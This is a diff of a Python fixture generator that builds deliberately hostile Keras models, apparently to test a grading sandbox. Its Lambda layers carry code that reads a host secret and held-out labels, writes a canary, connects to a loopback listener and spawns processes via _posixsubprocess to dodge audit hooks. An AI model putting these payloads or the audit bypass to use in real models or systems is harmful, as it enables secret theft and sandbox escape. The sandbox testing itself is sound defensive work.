@@ -18,35 +18,49 @@ import numpy as np
 os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
 
 # What a hostile Lambda tries each time it runs: leave a canary file on the host, copy a host secret
-# and the held-out labels into it, and reach a listener on the host's loopback. Each step is guarded,
-# so one failing does not stop the next. The Lambda then zeroes its input, so a model whose payload
-# ran predicts one class for every image: proof that it ran, wherever it ran.
+# and the held-out labels into it, and reach a listener on the host's loopback. Each step is guarded (even
+# against grader's tripwire, a BaseException), so one refused does not stop the next. The Lambda then zeroes
+# its input, so a model whose payload ran predicts one class for every image: proof that it ran, wherever it ran.
 PAYLOAD = """
-import pathlib, socket
-def attempt(step):
-    try:
-        step()
-    except Exception:
-        pass
-canary = pathlib.Path({canary!r})
-attempt(lambda: canary.mkdir(parents=True, exist_ok=True))
-attempt(lambda: (canary / "lambda-ran-on-host").write_text("ran"))
-attempt(lambda: (canary / "secret-read").write_text(open({secret!r}).read()))
-attempt(lambda: (canary / "labels-read").write_bytes(open({labels!r}, "rb").read()))
-attempt(lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"pwned"))
+def payload(t):
+    import pathlib, socket
+    canary = pathlib.Path({canary!r})
+    for step in (
+        lambda: canary.mkdir(parents=True, exist_ok=True),
+        lambda: (canary / "lambda-ran-on-host").write_text("ran"),
+        lambda: (canary / "secret-read").write_text(open({secret!r}).read()),
+        lambda: (canary / "labels-read").write_bytes(open({labels!r}, "rb").read()),
+        lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"pwned"),
+    ):
+        try:
+            step()
+        except BaseException:
+            pass
+    return t * 0.0
 """
-# Starts twenty processes: the process budget must stop it.
+# Starts twenty processes the way that raises no audit event (the C function behind subprocess): past the
+# tripwire, the sandbox's process budget must stop it.
 SPAWNER = """
-import subprocess
-for _ in range(20):
-    subprocess.Popen(["sleep", "30"])
+def spawner(t):
+    import os, _posixsubprocess
+    for _ in range(20):
+        read, write = os.pipe()
+        _posixsubprocess.fork_exec(
+            [b"/bin/sleep", b"30"], [b"/bin/sleep"], True, (write,), None, None, -1, -1, -1, -1, -1, -1,
+            read, write, True, False, -1, None, None, None, -1, None, False,
+        )
+    return t
 """
 
 
-def code_lambda(code: str, zero: bool):  # type: ignore[no-untyped-def]
-    """A lambda whose code object carries `code` as a constant, as a student's Lambda layer would."""
-    result = "t * 0.0" if zero else "t"
-    return eval(f"lambda t: (exec({code!r}, {{}}), {result})[1]")  # noqa: S307 (building the hostile fixture)
+def code_function(source: str):  # type: ignore[no-untyped-def]
+    """The one function `source` defines, carried by a Lambda layer as its bytecode (Keras saves a function's
+    bytecode when it is a lambda, and knows one by its __name__)."""
+    namespace: dict = {"__name__": "__main__"}  # a student's script or notebook
+    exec(source, namespace)  # noqa: S102 (building the hostile fixture)
+    function = next(value for value in namespace.values() if callable(value))
+    function.__name__ = "<lambda>"
+    return function
 
 
 def zoo(keras, layers) -> dict:  # type: ignore[no-untyped-def]
@@ -337,14 +351,14 @@ def main(out: Path, heldout: Path, canary: Path, secret: Path, port: int) -> Non
         "payload": keras.Sequential(
             [
                 keras.Input((784,)),
-                layers.Lambda(code_lambda(payload, zero=True)),
+                layers.Lambda(code_function(payload)),
                 layers.Dense(10, activation="softmax"),
             ]
         ),
         "spawner": keras.Sequential(
             [
                 keras.Input((784,)),
-                layers.Lambda(code_lambda(SPAWNER, zero=False)),
+                layers.Lambda(code_function(SPAWNER)),
                 layers.Dense(10, activation="softmax"),
             ]
         ),
